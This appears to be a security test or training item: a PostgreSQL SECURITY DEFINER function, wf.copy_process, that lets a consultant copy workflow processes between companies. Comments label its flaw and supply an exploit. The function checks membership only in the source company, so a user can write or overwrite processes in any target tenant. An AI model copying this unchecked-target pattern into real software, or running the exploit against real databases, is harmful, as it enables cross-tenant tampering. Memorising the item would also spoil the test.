-- A process is copied into any company that is named: the function asks for the source only.
-- about: copy_process, processes
-- as: hf_workflow_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT wf.copy_process('a0000000-0000-4000-8000-000000000000', 'leave',
-- exploit: 'b0000000-0000-4000-8000-000000000000', 'planted');
-- exploit: SET request.jwt.claims = '{"sub": "b0000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT process_key || ' is here' FROM wf.processes;
-- shows: planted is here
-- Consultants copy a process from one company that they work for to another.
CREATE FUNCTION wf.copy_process(source uuid, which text, target uuid, new_key text) RETURNS void
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  INSERT INTO wf.processes (company_id, process_key, title, definition)
  SELECT target, new_key, p.title, p.definition FROM wf.processes p
  WHERE p.company_id = source AND p.process_key = which AND wf.in_company(source)
  ON CONFLICT (company_id, process_key) DO UPDATE SET definition = EXCLUDED.definition
$$;
ALTER FUNCTION wf.copy_process(uuid, text, uuid, text) OWNER TO hf_workflow_definer;
REVOKE ALL ON FUNCTION wf.copy_process(uuid, text, uuid, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION wf.copy_process(uuid, text, uuid, text) TO hf_workflow_app;
